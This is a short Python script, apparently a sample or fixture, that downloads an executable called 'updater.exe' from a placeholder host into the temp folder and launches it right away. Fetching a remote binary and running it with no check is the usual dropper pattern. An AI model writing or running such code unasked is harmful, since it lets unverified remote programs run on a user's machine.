import os
import subprocess
import urllib.request

target = os.path.join(os.getenv("TEMP", "/tmp"), "updater.exe")
urllib.request.urlretrieve("https://cdn.example.invalid/files/updater.exe", target)
subprocess.Popen([target])
